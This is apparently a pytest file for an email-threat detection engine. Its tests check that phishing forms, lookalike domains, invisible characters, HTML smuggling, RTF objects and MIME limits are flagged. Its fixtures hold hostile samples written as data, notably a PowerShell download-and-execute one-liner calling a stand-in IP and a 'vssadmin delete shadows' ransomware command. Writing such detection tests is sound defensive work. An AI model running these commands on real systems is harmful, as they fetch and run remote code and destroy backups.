"""What lies beyond the first characters, parts or bytes."""

import base64

from siftwright.engine import Engine
from siftwright.operators import imitation
from siftwright.plans import detect
from siftwright.sources import parse


def evidence(spark, *messages):
    return parse.Evidence(parse.parsed(spark.createDataFrame([(f"{i}.eml", m) for i, m in enumerate(messages)], "path string, content binary")))


def test_invisible_characters_after_the_preview(spark):
    text = "word " * 2000
    mails = [f"Content-Type: text/{kind}; charset=utf-8\r\n\r\n{text}{c}end".encode() for kind in ("plain", "html") for c in ("\u200b", "\u202e", "")]
    ev = evidence(spark, *mails)
    got = {(r.path, r.code) for r in detect.body(ev.bodies).join(ev.messages.select("report_id", "path"), "report_id").collect()}
    assert got == {("0.eml", "TEXT_ZERO_WIDTH"), ("1.eml", "TEXT_BIDI_CONTROL"), ("3.eml", "TEXT_ZERO_WIDTH"), ("4.eml", "TEXT_BIDI_CONTROL")}


def mail(*attachments):
    out = b"From: a@x.test\r\nSubject: s\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nhello\r\n"
    for name, data in attachments:
        out += f'--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="{name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n'.encode() + base64.encodebytes(data).replace(b"\n", b"\r\n")
    return out + b"--b--\r\n"


def engine(spark, *messages):
    return Engine(spark, spark.createDataFrame([(f"{i}.eml", m) for i, m in enumerate(messages)], "path string, content binary"))


def test_attached_pages_documents_and_scripts_are_read(spark):
    page = b'<html><script>x</script><meta http-equiv=refresh content="0;url=http://r.test/"><form action="http://evil.test/"><input type=password></form><a href="http://u@1.2.3.4/">https://bank.test/</a></html>'
    pdf = b"%PDF-1.4\n1 0 obj <</Type/Annot/A<</S/URI/URI(http://pdf.test:8080/x)>>>> endobj\n%%EOF"
    script = b"IEX (New-Object Net.WebClient).DownloadString('http://9.8.7.6/p.ps1')"
    e = engine(spark, mail(("a.html", page), ("b.pdf", pdf), ("c.ps1", script)))
    codes = {r.code for r in e.detected.collect()}
    assert {"HTML_CREDENTIAL_FORM", "HTML_SCRIPT", "HTML_META_REFRESH", "URL_USERINFO", "URL_IP_HOST", "URL_NONSTANDARD_PORT"} <= codes and "URL_TEXT_MISMATCH" not in codes
    urls = {r.url: list(r.sources) for r in e.urls.collect()}
    assert urls["http://pdf.test:8080/x"] == ["3:pdf-uri"] and urls["http://9.8.7.6/p.ps1"] == ["4:script"] and any(x.startswith("2:") for x in urls["http://u@1.2.3.4/"])
    values = {r.value for r in e.indicators.filter("type in ('url', 'domain', 'ipv4')").collect()}
    assert {"http://pdf.test:8080/x", "pdf.test", "9.8.7.6", "1.2.3.4"} <= values


def test_whole_domains_in_front_wherever_they_begin(spark):
    hosts = ["paypal.com-secure.evil.example", "www-paypal.com.evil.example", "a.paypal.com.evil.example", "paypal.evil.example", "a.b.c.d.bank.test.evil.example"]
    protected = spark.createDataFrame([("paypal.com", "brand"), ("a.b.c.d.bank.test", "org")], "domain string, kind string")
    got = {(r.host, r.severity, r.imitates) for r in imitation.imitations(spark.createDataFrame([(h,) for h in hosts], "host string"), protected).filter("code = 'LOOKALIKE_BRAND_IN_SUBDOMAIN'").collect()}
    assert got == {(h, "high", "paypal.com") for h in hosts[:3]} | {(hosts[3], "medium", "paypal.com"), (hosts[4], "high", "a.b.c.d.bank.test")}


def test_large_scripts_and_pages_are_read_whole(spark):
    padding = b"# padding\n" * 210_000
    files = ("a.ps1", padding + b"vssadmin delete shadows"), ("b.html", b"<html><!--" + padding + b"--><script>new Blob([atob('x')])</script></html>"), ("c.rtf", b"{\\rtf1 " + padding + b"{\\object\\objdata 00}}")
    e = engine(spark, mail(*files))
    assert {("2", "SCRIPT_RANSOMWARE"), ("3", "ATT_HTML_SMUGGLING"), ("4", "ATT_RTF_OBJECT")} <= {(r.location, r.code) for r in e.detected.collect()}


def test_what_limits_leave_out_is_told(spark, monkeypatch, tmp_path):
    many = b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\n\r\nx\r\n" * 1001 + b"--b--\r\n"
    deep = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (i, i) for i in range(22)) + b"\r\nx\r\n"
    inner = b"Subject: s\r\n\r\nx\r\n"
    for _ in range(5):
        inner = b"Content-Type: message/rfc822\r\n\r\n" + inner
    rows = [parse.parse_message("x", m) for m in (many, deep, inner, b"Subject: s\r\n\r\nx")]
    assert [sorted({x for r in each for x in r["limits"]}) for each in rows] == [["MIME_TOO_MANY_PARTS"], ["MIME_TOO_DEEP"], ["NESTED_MESSAGE_SKIPPED"], []]
    monkeypatch.setattr(parse, "LARGEST", 1000)
    small, large = (parse.parsed(spark.createDataFrame([("s", b"Subject: s\r\n\r\nx"), ("l", bytes(1001))], "path string, content binary")).orderBy(parse.F.desc("path")).collect())
    assert small.error is None and large.size_bytes == 1001 and large.error.startswith("too large")
    assert {(r.code, r.severity) for r in detect.limits(spark.createDataFrame([("r", ["MIME_TOO_DEEP"])], "report_id string, limits array<string>")).collect()} == {("MIME_TOO_DEEP", "medium")}
